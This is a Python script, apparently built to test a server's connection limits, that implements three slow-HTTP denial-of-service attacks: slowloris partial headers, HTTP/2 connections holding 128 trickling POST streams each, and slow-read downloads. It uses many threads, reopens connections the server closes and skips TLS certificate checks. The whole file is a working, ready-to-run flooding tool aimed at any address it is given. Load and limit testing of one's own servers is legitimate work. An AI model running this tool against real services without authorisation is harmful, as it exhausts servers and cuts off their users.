"""A visitor who takes what he can, for the tests of the limits: runs on a client host, with the standard library alone.

flood_attacker.py heads ADDRESS NAME PORT COUNT SECONDS      requests of which only half the head is sent
flood_attacker.py posts ADDRESS NAME PORT COUNT SECONDS      connections of HTTP/2, each with 128 uploads of a byte now and then
flood_attacker.py readers ADDRESS NAME PORT COUNT SECONDS    downloads of which nothing is read

Each keeps COUNT connections open for SECONDS; one that is closed is opened again, four times COUNT in all at most. Prints what came of them.
"""

from __future__ import annotations

import contextlib
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

THREADS = 24
STREAMS = 128


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field without indexing, name and value as they are (RFC 7541, section 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


class Flood:
    def __init__(self, kind: str, address: str, name: str, port: int, count: int, seconds: float) -> None:
        self.kind, self.address, self.name, self.port = kind, address, name, port
        self.count, self.until = count, time.monotonic() + seconds
        self.tries = 4 * count
        self.lock = threading.Lock()
        self.counts = {"opened": 0, "refused": 0, "closed": 0, "held": 0, "most": 0}
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2" if kind == "posts" else "http/1.1"])

    def add(self, what: str, number: int = 1) -> None:
        with self.lock:
            self.counts[what] += number
            self.counts["most"] = max(self.counts["most"], self.counts["held"])

    def open(self) -> socket.socket:
        made = socket.socket(socket.AF_INET6 if ":" in self.address else socket.AF_INET)
        if self.kind == "readers":
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.settimeout(5)
        made.connect((self.address, self.port))
        if self.port in (443, 8920):
            made = self.context.wrap_socket(made, server_hostname=self.name)
        return made

    def begin(self, connection: socket.socket) -> None:
        if self.kind == "heads":
            connection.sendall(f"GET / HTTP/1.1\r\nHost: {self.name}\r\nX-Slow: ".encode())
        elif self.kind == "readers":
            connection.sendall(f"GET /media HTTP/1.1\r\nHost: {self.name}\r\n\r\n".encode())
        else:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            fields = [(":method", "POST"), (":scheme", "https"), (":path", "/slow"), (":authority", self.name)]
            block = b"".join(literal(*field) for field in [*fields, ("content-length", "100000")])
            for index in range(STREAMS):
                connection.sendall(frame(1, 4, 2 * index + 1, block))

    def keep(self, connection: socket.socket) -> None:
        """Whatever keeps the connection's requests alive without finishing one."""
        if self.kind == "heads":
            connection.sendall(b"x")
        elif self.kind == "posts":
            connection.sendall(b"".join(frame(0, 0, 2 * index + 1, b"x") for index in range(STREAMS)))

    def worker(self, share: int) -> None:
        held: list[socket.socket] = []
        beat = 0.0
        while time.monotonic() < self.until:
            with self.lock:
                more = self.tries > 0 and len(held) < share
                self.tries -= 1 if more else 0
            if more:
                try:
                    connection = self.open()
                    self.begin(connection)
                except OSError:
                    self.add("refused")
                    time.sleep(0.01)
                else:
                    held.append(connection)
                    self.add("opened")
                    self.add("held")
                continue
            if time.monotonic() - beat < 1:
                time.sleep(0.1)
                continue
            beat = time.monotonic()
            for connection in self.gone(held):
                held.remove(connection)
                self.add("held", -1)
                self.add("closed")
                connection.close()
        for connection in held:
            with contextlib.suppress(OSError):
                connection.close()

    def gone(self, held: list[socket.socket]) -> list[socket.socket]:
        """Those that the other side has closed. What it sends is left where it is by a reader, and thrown away by the others."""
        lost = []
        with selectors.DefaultSelector() as selector:
            for connection in held:
                try:
                    self.keep(connection)
                    selector.register(connection, selectors.EVENT_READ)
                except (OSError, ValueError):
                    lost.append(connection)
            for key, _events in selector.select(0):
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                connection.settimeout(0.05)
                try:
                    said = connection.recv(1 if self.kind == "readers" else 65536)
                    if not said:
                        lost.append(connection)
                except (TimeoutError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    lost.append(connection)
                connection.settimeout(5)
        return lost


def main(kind: str, address: str, name: str, port: str, count: str, seconds: str) -> None:
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    flood = Flood(kind, address, name, int(port), int(count), float(seconds))
    shares = [int(count) // THREADS + (index < int(count) % THREADS) for index in range(THREADS)]
    workers = [threading.Thread(target=flood.worker, args=(share,), daemon=True) for share in shares if share]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(float(seconds) + 30)
    print(json.dumps(flood.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
